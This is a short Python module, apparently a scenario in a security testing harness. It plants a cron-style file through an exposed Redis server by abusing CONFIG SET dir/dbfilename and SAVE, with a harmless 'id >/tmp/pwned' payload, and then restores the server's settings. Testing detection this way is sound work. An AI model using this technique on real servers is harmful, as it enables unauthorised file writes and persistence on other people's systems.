# SPDX-License-Identifier: Apache-2.0
"""A file of the intruder's content where the server can be told to write: how keys and cron jobs are planted."""
import time

KIND = "planting a file"
QUIET = True
SERVICES = {"redis": None}


def attack(t):
    client = t.module.Redis(t.host)
    t.begin()
    client("SET", "x", "\n\n* * * * * root id >/tmp/pwned\n\n")
    client("CONFIG", "SET", "dir", "/tmp")
    client("CONFIG", "SET", "dbfilename", "crontab")
    client("SAVE")
    saved = client("CONFIG", "GET", "dir")
    client("CONFIG", "SET", "dir", "/var/lib/redis")
    client("CONFIG", "SET", "dbfilename", "dump.rdb")
    time.sleep(1)
    return "written to /tmp/crontab" if saved[1] == b"/tmp" else ""
